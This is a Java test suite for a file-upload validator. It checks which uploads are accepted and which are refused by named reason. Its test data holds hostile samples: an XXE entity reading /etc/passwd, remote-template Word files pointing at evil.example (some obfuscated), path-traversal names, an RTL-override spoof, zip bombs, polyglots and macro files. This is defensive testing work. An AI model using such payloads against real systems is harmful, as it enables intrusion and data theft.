package org.gongkai.platform.files;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import java.util.function.Supplier;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.record.crypto.Biff8EncryptionKey;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.gongkai.platform.refusals.Refusal;
import org.gongkai.platform.refusals.RefusalKind;
import org.gongkai.testing.files.ExcelSamples;
import org.gongkai.testing.files.ImageSamples;
import org.gongkai.testing.files.PdfSamples;
import org.gongkai.testing.files.WordSamples;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

@DisplayName("Uploads — what is taken in, and what is refused by the name of the problem")
class UploadTests {
    @TempDir static Path home;
    private static TestFiles files;

    @BeforeAll
    static void openStore() {
        files = new TestFiles(home);
    }

    private record Bad(String name, Supplier<byte[]> content, String key) {}

    private static List<Bad> badFiles() {
        var pdf = PdfSamples.plain(it -> {});
        return List.of(
                new Bad("空.txt", () -> new byte[0], "files.refused.empty"),
                new Bad(
                        "通知.docx",
                        () -> latin("MZ\u0090\0\u0003program"),
                        "files.refused.executable"),
                new Bad("图.png", () -> latin("\u007FELF..."), "files.refused.executable"),
                new Bad("说明.txt", () -> latin("#!/bin/sh\nrm x"), "files.refused.executable"),
                new Bad("run.bat", () -> latin("@echo off"), "files.refused.executable"),
                new Bad("通知.exe", () -> pdf, "files.refused.kind-differs"),
                new Bad("通知.docx", () -> pdf, "files.refused.kind-differs"),
                new Bad("图.jpg", ImageSamples::png, "files.refused.kind-differs"),
                new Bad("页.html", () -> latin("<!DOCTYPE html><p>x"), "files.refused.html"),
                new Bad("说明.txt", () -> latin("<script>alert(1)</script>"), "files.refused.html"),
                new Bad("数据.csv", () -> latin("  <html><body onload=x>"), "files.refused.html"),
                new Bad(
                        "图.svg",
                        () -> latin("<svg xmlns='http://www.w3.org/2000/svg'/>"),
                        "files.refused.svg"),
                new Bad("包.zip", () -> zip(Map.of("a.txt", latin("a"))), "files.refused.archive"),
                new Bad("通知.docx", () -> zip(Map.of("a.txt", latin("a"))), "files.refused.archive"),
                new Bad("包.rar", () -> latin("Rar!\u001a\u0007\0"), "files.refused.archive"),
                new Bad("宏.docx", UploadTests::withMacros, "files.refused.macros"),
                new Bad("宏.docm", UploadTests::macroEnabled, "files.refused.macros"),
                new Bad("宏.xls", UploadTests::oldWithMacros, "files.refused.macros"),
                new Bad("密.docx", UploadTests::lockedWord, "files.refused.encrypted"),
                new Bad("密.xls", UploadTests::lockedOldExcel, "files.refused.encrypted"),
                new Bad("密.pdf", () -> PdfSamples.locked("o", "u"), "files.refused.encrypted"),
                new Bad("限.pdf", () -> PdfSamples.locked("o", ""), "files.refused.encrypted"),
                new Bad("弹.docx", UploadTests::bomb, "files.refused.zip-bomb"),
                new Bad("套.docx", UploadTests::nestedBomb, "files.refused.zip-bomb"),
                new Bad("多.docx", UploadTests::manyEntries, "files.refused.zip-bomb"),
                new Bad(
                        "两.pdf",
                        () -> joined(pdf, zip(Map.of("a.txt", latin("a")))),
                        "files.refused.polyglot"),
                new Bad(
                        "两.png",
                        () -> joined(ImageSamples.png(), zip(Map.of("a", latin("a")))),
                        "files.refused.polyglot"),
                new Bad(
                        "两.jpg",
                        () -> joined(ImageSamples.jpeg(), latin("MZ program")),
                        "files.refused.polyglot"),
                new Bad(
                        "两.gif",
                        () -> joined(ImageSamples.gif(), latin("<script>x</script>")),
                        "files.refused.polyglot"),
                new Bad(
                        "两.docx",
                        () -> joined(WordSamples.plain("文"), latin("<html>")),
                        "files.refused.polyglot"),
                new Bad("坏.pdf", () -> latin("%PDF-1.7\nnothing"), "files.refused.broken"),
                new Bad("坏.docx", () -> shortened(WordSamples.plain("文")), "files.refused.broken"),
                new Bad("坏.png", () -> shortened(ImageSamples.png()), "files.refused.broken"),
                new Bad("坏.txt", () -> latin("\u0001\u0002\0binary"), "files.refused.broken"),
                new Bad("路.docx", UploadTests::walking, "files.refused.broken"),
                new Bad("实.docx", UploadTests::withEntities, "files.refused.entities"),
                new Bad("模.docx", UploadTests::withRemoteTemplate, "files.refused.remote-template"),
                new Bad(
                        "单引号模.docx",
                        () -> withTemplate("Target='https://evil.example/t.dotm'"),
                        "files.refused.remote-template"),
                new Bad(
                        "字符引用模.docx",
                        () -> withTemplate("Target=\"&#104;ttps://evil.example/t.dotm\""),
                        "files.refused.remote-template"),
                new Bad(
                        "共享模.docx",
                        () -> withTemplate("Target = \"file://evil.example/t.dotm\""),
                        "files.refused.remote-template"),
                new Bad("稿.rtf", () -> latin("{\\rtf1 x}"), "files.refused.unknown"),
                new Bad("../../etc/passwd", () -> latin("x"), "files.name.path"),
                new Bad("..\\a.txt", () -> latin("x"), "files.name.path"),
                new Bad("a\u202Etxt.exe", () -> latin("x"), "files.name.direction"),
                new Bad("a\u0000.txt", () -> latin("x"), "files.name.control"),
                new Bad("a\n.txt", () -> latin("x"), "files.name.control"),
                new Bad("...", () -> latin("x"), "files.name.empty"));
    }

    @TestFactory
    Stream<DynamicTest> refusesByTheNameOfTheProblem() {
        return badFiles().stream()
                .map(
                        bad ->
                                DynamicTest.dynamicTest(
                                        bad.key() + " " + escaped(bad.name()),
                                        () -> assertRefused(bad)));
    }

    private static void assertRefused(Bad bad) throws IOException {
        var before = keptFiles();

        var refusal =
                catchThrowableOfType(Refusal.class, () -> put(bad.content().get(), bad.name()));

        assertThat(refusal).isNotNull();
        var key =
                refusal.problems().isEmpty()
                        ? refusal.messageKey()
                        : refusal.problems().getFirst().messageKey();
        assertThat(key).isEqualTo(bad.key());
        assertThat(keptFiles()).isEqualTo(before);
    }

    private static String escaped(String name) {
        return name.replaceAll("[\\p{Cc}\\p{Cf}]", "?");
    }

    @TestFactory
    Stream<DynamicTest> takesInWhatIsOnTheList() {
        Map<String, Supplier<byte[]>> good =
                Map.of(
                        "通知.docx", () -> WordSamples.plain("文"),
                        "表.xlsx", () -> ExcelSamples.excel((book, sheet) -> {}),
                        "旧表.xls", () -> ExcelSamples.oldExcel((book, sheet) -> {}),
                        "报告.pdf", () -> PdfSamples.plain(it -> {}),
                        "图.PNG", ImageSamples::png,
                        "图.jpeg", ImageSamples::jpeg,
                        "图.gif", ImageSamples::gif,
                        "文.txt", () -> "银川 <5 mg/L".getBytes(Charset.forName("GB18030")),
                        "数.csv", () -> "名称,值\n东郊,1".getBytes(StandardCharsets.UTF_8));
        return good.entrySet().stream()
                .map(
                        it ->
                                DynamicTest.dynamicTest(
                                        it.getKey(),
                                        () -> {
                                            var bytes = it.getValue().get();
                                            var stored = put(bytes, it.getKey());
                                            assertThat(stored.safeName()).isEqualTo(it.getKey());
                                            assertThat(stored.size()).isEqualTo(bytes.length);
                                            try (var in = files.store.open(stored.sha256())) {
                                                assertThat(in.readAllBytes()).isEqualTo(bytes);
                                            }
                                            assertThat(
                                                            stored.kind()
                                                                    .fits(
                                                                            SafeName.of(it.getKey())
                                                                                    .extension()))
                                                    .isTrue();
                                        }));
    }

    @Test
    void stopsReadingAnUploadOf300MegabytesAtTheLimit() throws IOException {
        var endless = new EndlessStream(300L * 1024 * 1024);

        assertThatThrownBy(() -> files.store.put(endless, "大.pdf", UploadLimits.ATTACHMENT))
                .isInstanceOfSatisfying(
                        Refusal.class,
                        it -> {
                            assertThat(it.kind()).isEqualTo(RefusalKind.TOO_LARGE);
                            assertThat(it.arguments()).containsExactly("大.pdf", 100L);
                        });
        assertThat(endless.read).isLessThan(101L * 1024 * 1024);
        try (var left = Files.list(home.resolve("incoming"))) {
            assertThat(left).isEmpty();
        }
    }

    @Test
    void keepsTheSameContentOnce() throws IOException {
        var first = put("同一内容".getBytes(StandardCharsets.UTF_8), "甲.txt");
        var count = keptFiles().size();
        var second = put("同一内容".getBytes(StandardCharsets.UTF_8), "乙.txt");

        assertThat(second.sha256()).isEqualTo(first.sha256());
        assertThat(second.safeName()).isEqualTo("乙.txt");
        assertThat(keptFiles()).hasSize(count);
    }

    @Test
    void leavesNothingWhenTheConnectionBreaks() throws IOException {
        var before = keptFiles();
        var broken =
                new InputStream() {
                    private int count;

                    @Override
                    public int read() throws IOException {
                        if (++count > 1000) {
                            throw new IOException("connection reset");
                        }
                        return 'a';
                    }
                };

        assertThatThrownBy(() -> files.store.put(broken, "断.txt", UploadLimits.ATTACHMENT))
                .hasMessageContaining("connection reset");
        assertThat(keptFiles()).isEqualTo(before);
    }

    @Test
    void sweepsOnlyWhatIsOldAndNeededByNobody() throws IOException {
        var needed = put("需要".getBytes(StandardCharsets.UTF_8), "甲.txt");
        var orphan = put("无主".getBytes(StandardCharsets.UTF_8), "乙.txt");
        var young = put("新的".getBytes(StandardCharsets.UTF_8), "丙.txt");
        var dayAgo = FileTime.from(files.clock.instant().minus(Duration.ofHours(25)));
        for (var file : keptFiles()) {
            Files.setLastModifiedTime(
                    file,
                    file.endsWith(young.sha256()) ? FileTime.from(files.clock.instant()) : dayAgo);
        }
        var half = Files.createFile(home.resolve("incoming").resolve("upload-1.part"));
        Files.setLastModifiedTime(half, dayAgo);

        new FileSweep(
                        files.folder,
                        files.register,
                        List.of(it -> !it.equals(orphan.sha256())),
                        files.clock)
                .sweep();

        assertThat(files.store.find(needed.sha256(), "甲.txt")).isPresent();
        assertThat(files.store.find(orphan.sha256(), "乙.txt")).isEmpty();
        assertThat(files.store.intact(young.sha256())).isTrue();
        assertThat(half).doesNotExist();
        assertThatThrownBy(() -> files.store.open(orphan.sha256())).isInstanceOf(Refusal.class);
    }

    @Test
    void erasesSpilledContentAndTakesItBackOnlyWhenItIsUploadedAgain() {
        var spilled = put("误传".getBytes(StandardCharsets.UTF_8), "误.txt");

        files.store.erase(spilled.sha256());

        assertThat(files.store.find(spilled.sha256(), "误.txt")).isEmpty();
        assertThatThrownBy(() -> files.store.open(spilled.sha256())).isInstanceOf(Refusal.class);
    }

    @Test
    void stopsAReaderThatTakesTooLong() {
        var guard = new ParserGuard(Duration.ofMillis(50));
        var never = new CountDownLatch(1);

        assertThatThrownBy(
                        () ->
                                guard.read(
                                        "慢.pdf",
                                        () -> {
                                            never.await();
                                            return "";
                                        }))
                .isInstanceOfSatisfying(
                        Refusal.class,
                        it -> assertThat(it.messageKey()).isEqualTo("files.refused.too-slow"));
        assertThat(guard.<String>read("快.pdf", () -> "读完")).isEqualTo("读完");
    }

    @Test
    void sendsFilesUnderTheirNameAndAsWhatTheyAre() {
        var stored = put("内容".getBytes(StandardCharsets.UTF_8), "要点 \"2021\"(正式).txt");
        var response = FileResponse.download(stored, files.store.path(stored.sha256()));

        assertThat(stored.safeName()).isEqualTo("要点 _2021_(正式).txt");
        assertThat(response.getHeaders().getFirst("Content-Disposition"))
                .isEqualTo(
                        "attachment; filename=\"____2021_____.txt\"; filename*=UTF-8''%E8%A6%81%E7%82%B9%20_2021_%28%E6%AD%A3%E5%BC%8F%29.txt");
        assertThat(response.getHeaders().getFirst("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(response.getHeaders().getFirst("Content-Security-Policy"))
                .isEqualTo("default-src 'none'; sandbox");
        assertThat(response.getHeaders().getContentType()).hasToString("text/plain");
    }

    private static StoredFile put(byte[] content, String name) {
        return files.store.put(new ByteArrayInputStream(content), name, UploadLimits.ATTACHMENT);
    }

    private static List<Path> keptFiles() throws IOException {
        try (var all = Files.walk(home)) {
            return all.filter(Files::isRegularFile).sorted().toList();
        }
    }

    private static byte[] latin(String words) {
        return words.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] joined(byte[] first, byte[] second) {
        var out = new ByteArrayOutputStream();
        out.writeBytes(first);
        out.writeBytes(second);
        return out.toByteArray();
    }

    private static byte[] shortened(byte[] bytes) {
        return java.util.Arrays.copyOf(bytes, bytes.length - 30);
    }

    private static byte[] zip(Map<String, byte[]> entries) {
        try {
            var out = new ByteArrayOutputStream();
            try (var zip = new ZipOutputStream(out)) {
                for (var entry : entries.entrySet()) {
                    zip.putNextEntry(new ZipEntry(entry.getKey()));
                    zip.write(entry.getValue());
                }
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The parts of a plain Word file, and more. */
    private static byte[] wordWith(Map<String, byte[]> more) {
        Map<String, byte[]> parts = new java.util.LinkedHashMap<>();
        try (var zip = new ZipInputStream(new ByteArrayInputStream(WordSamples.plain("文")))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                parts.put(entry.getName(), zip.readAllBytes());
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        parts.putAll(more);
        return zip(parts);
    }

    private static byte[] withMacros() {
        return wordWith(Map.of("word/vbaProject.bin", latin("x")));
    }

    private static byte[] macroEnabled() {
        return zip(
                Map.of(
                        "[Content_Types].xml",
                        latin(
                                "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")));
    }

    private static byte[] oldWithMacros() {
        try (var store =
                new POIFSFileSystem(
                        new ByteArrayInputStream(ExcelSamples.oldExcel((book, sheet) -> {})))) {
            store.getRoot().createDirectory("_VBA_PROJECT_CUR");
            return written(store);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] lockedWord() {
        try (var store = new POIFSFileSystem()) {
            var encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword("secret");
            try (var out = encryptor.getDataStream(store)) {
                out.write(WordSamples.plain("文"));
            }
            return written(store);
        } catch (IOException | java.security.GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] lockedOldExcel() {
        Biff8EncryptionKey.setCurrentUserPassword("secret");
        try {
            return ExcelSamples.oldExcel((book, sheet) -> {});
        } finally {
            Biff8EncryptionKey.setCurrentUserPassword(null);
        }
    }

    private static byte[] written(POIFSFileSystem store) throws IOException {
        var out = new ByteArrayOutputStream();
        store.writeFilesystem(out);
        return out.toByteArray();
    }

    private static byte[] bomb() {
        return wordWith(Map.of("word/media/image1.bmp", new byte[60 * 1024 * 1024]));
    }

    private static byte[] nestedBomb() {
        var inner = zip(Map.of("zeros", new byte[30 * 1024 * 1024]));
        return wordWith(Map.of("word/embeddings/a.xlsx", zip(Map.of("b.zip", inner))));
    }

    private static byte[] manyEntries() {
        Map<String, byte[]> entries = new java.util.LinkedHashMap<>();
        for (var count = 0; count < 10_050; count++) {
            entries.put(String.format(Locale.ROOT, "word/%d.xml", count), latin("<a/>"));
        }
        return wordWith(entries);
    }

    private static byte[] walking() {
        return wordWith(Map.of("../../evil.xml", latin("<a/>")));
    }

    private static byte[] withEntities() {
        return wordWith(
                Map.of(
                        "word/styles.xml",
                        latin(
                                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>")));
    }

    private static byte[] withRemoteTemplate() {
        return withTemplate("Target=\"https://evil.example/t.dotm\"");
    }

    private static byte[] withTemplate(String target) {
        return wordWith(
                Map.of(
                        "word/_rels/settings.xml.rels",
                        latin(
                                "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
                                        + target
                                        + " TargetMode=\"External\"/></Relationships>")));
    }

    /** So many bytes, without holding them. */
    private static final class EndlessStream extends InputStream {
        private final long size;
        private long read;

        EndlessStream(long size) {
            this.size = size;
        }

        @Override
        public int read() {
            return read++ < size ? 'a' : -1;
        }

        @Override
        public int read(byte[] bytes, int offset, int length) {
            if (read >= size) {
                return -1;
            }
            read += length;
            return length;
        }
    }
}
